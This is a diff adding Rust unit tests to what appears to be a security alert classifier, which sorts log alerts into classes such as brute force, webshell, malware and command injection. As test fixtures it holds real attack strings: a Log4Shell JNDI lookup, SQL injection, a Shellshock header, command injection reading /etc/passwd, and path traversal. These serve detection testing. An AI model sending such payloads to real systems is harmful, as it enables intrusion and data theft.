@@ -101,6 +101,92 @@ fn a_sensor_is_read_before_the_answer_of_the_server() {
 }
 
 #[test]
+fn a_secret_that_is_scanned_for_is_no_scan_and_a_service_says_who_was_let_in() {
+    let class = |description: &str, data: Value| {
+        let alert = json!({
+            "rule": {"id": "1", "level": 3, "description": description, "groups": ["a service"]},
+            "agent": {"id": "000", "name": "manager"}, "data": data,
+        });
+        seen(&alert.to_string()).class
+    };
+    assert_eq!(class("Secret scanning report.", json!({})), Class::Other);
+    assert_eq!(class("Sensor: ET SCAN of ports", json!({})), Class::NetworkScan);
+    let operation = |name: &str| class("Events.", json!({"office365": {"Operation": name}}));
+    assert_eq!(operation("UserLoginFailed"), Class::BruteForce);
+    assert_eq!(operation("UserLoggedIn"), Class::Login);
+    let started = json!({"docker": {"Action": "exec_start: /bin/bash"}});
+    assert_eq!(class("A shell was started", started), Class::CommandExecution);
+}
+
+#[test]
+fn a_virus_in_a_file_is_no_request_for_it() {
+    let alert = json!({
+        "rule": {"id": "52502", "level": 8, "description": "a virus", "groups": ["clamd", "virus"]},
+        "agent": {"id": "001", "name": "mail"},
+        "data": {"url": "/usr/local/bin/kworkerd", "extra_data": "Unix.Trojan.Agent-1"},
+        "full_log": "/usr/local/bin/kworkerd: Unix.Trojan.Agent-1 FOUND",
+    });
+    let seen = seen(&alert.to_string());
+    assert_eq!((seen.class, seen.variant.as_str()), (Class::Malware, "Unix.Trojan.Agent-1"));
+}
+
+#[test]
+fn an_attack_in_the_name_of_a_user_is_one_whatever_reports_the_name() {
+    let class = |name: &str| {
+        let alert = json!({
+            "rule": {"id": "5710", "level": 5, "description": "no such user", "groups": ["sshd", "invalid_login"]},
+            "agent": {"id": "001", "name": "a"}, "data": {"srcip": "203.0.113.9", "srcuser": name},
+            "full_log": format!("Invalid user {name} from 203.0.113.9"),
+        });
+        seen(&alert.to_string()).class
+    };
+    assert_eq!(class("${jndi:ldap://198.51.100.1/a}"), Class::Log4shell);
+    assert_eq!(class("x' OR '1'='1"), Class::SqlInjection);
+    for name in ["O'Brien", "j.doe (sales)", "pc-7$", "admin"] {
+        assert_eq!(class(name), Class::BruteForce, "{name}");
+    }
+}
+
+#[test]
+fn who_owns_a_whole_account_in_a_cloud_need_not_log_in() {
+    let seen_as = |kind: &str| {
+        let alert = json!({
+            "rule": {"id": "80253", "level": 3, "description": "a login", "groups": ["aws", "authentication_success"]},
+            "agent": {"id": "000", "name": "manager"},
+            "data": {"aws": {"eventName": "ConsoleLogin", "userIdentity": {"type": kind, "userName": "u"}}},
+        });
+        let seen = seen(&alert.to_string());
+        (seen.class, seen.finding.is_some())
+    };
+    assert_eq!(seen_as("Root"), (Class::PrivilegeEscalation, true));
+    assert_eq!(seen_as("IAMUser"), (Class::Login, false));
+}
+
+#[test]
+fn the_name_of_a_script_that_is_not_there_is_one_wish_of_many() {
+    let class = |url: &str, status| seen(&web(url, status, "curl").to_string()).class;
+    for url in ["/uploads/2024/a1.php", "/bin/config", "/images/r57.php"] {
+        assert_eq!(class(url, 404), Class::WebError, "{url}");
+    }
+    assert_eq!(class("/uploads/2024/a1.php", 200), Class::Webshell);
+    assert_eq!(class("/uploads/a1.php?cmd=id", 404), Class::Webshell);
+    assert_eq!(class("/x;cat%20/etc/passwd", 404), Class::CommandInjection);
+    assert_eq!(class("/../../../../etc/passwd", 404), Class::PathTraversal);
+}
+
+#[test]
+fn a_quote_that_the_client_sent_ends_no_field() {
+    let bash = r#"() { :; }; /bin/bash -c \"id\""#;
+    let seen_in = |agent: &str| seen(&web("/favicon.ico", 404, agent).to_string()).class;
+    assert_eq!(seen_in(bash), Class::CommandInjection);
+    assert_eq!(seen_in(r#"a \"quoted\" name"#), Class::WebError);
+    assert_eq!(
+        split_at_quotes_from_end(r#"a "b" "c\"d" "e\\""#).collect::<Vec<_>>(),
+        ["", r"e\\", " ", r#"c\"d"#, " ", "b", "a "]
+    );
+}
+
+#[test]
 fn words_are_read_where_they_begin() {
     let class = |text: &str, groups: &[&str]| {
         let alert = json!({
@@ -115,6 +201,28 @@ fn words_are_read_where_they_begin() {
     assert_eq!(class("Malware was found", &["windows"]), Class::Malware);
     assert_eq!(class("ET SCAN of ports", &["x"]), Class::NetworkScan);
     assert_eq!(class("potentially unwanted software was detected", &["windows"]), Class::Malware);
+}
+
+#[test]
+fn a_note_that_wants_money_is_no_file_among_others() {
+    let class = |path: &str, groups: Value| {
+        let alert = json!({
+            "rule": {"id": "554", "level": 5, "description": "a file", "groups": groups},
+            "agent": {"id": "001", "name": "files"}, "syscheck": {"path": path, "event": "added"},
+        });
+        seen(&alert.to_string()).class
+    };
+    let added = json!(["syscheck", "syscheck_entry_added"]);
+    for path in ["/srv/share/HOW_TO_RECOVER_FILES.txt", "C:\\docs\\!!!Decrypt my data.hta"] {
+        assert_eq!(class(path, added.clone()), Class::Malware, "{path}");
+    }
+    for path in
+        ["/usr/share/doc/recover.txt", "/srv/share/restore_plan.docx", "/srv/how_to_read.txt"]
+    {
+        assert_eq!(class(path, added.clone()), Class::FileIntegrity, "{path}");
+    }
+    let deleted = json!(["syscheck", "syscheck_entry_deleted"]);
+    assert_eq!(class("/srv/share/HOW_TO_RECOVER_FILES.txt", deleted), Class::FileIntegrity);
 }
 
 #[test]
